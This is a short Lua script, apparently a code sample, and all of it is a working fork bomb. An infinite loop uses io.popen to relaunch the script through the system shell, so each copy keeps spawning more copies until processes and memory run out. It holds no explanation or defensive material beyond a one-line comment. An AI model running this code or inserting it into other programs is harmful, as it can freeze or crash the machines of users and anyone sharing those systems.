-- Lua starts processes through the system's shell (io.popen): each one runs this program again.
local again = arg[-1] .. " " .. arg[0]
while true do
    io.popen(again)
end
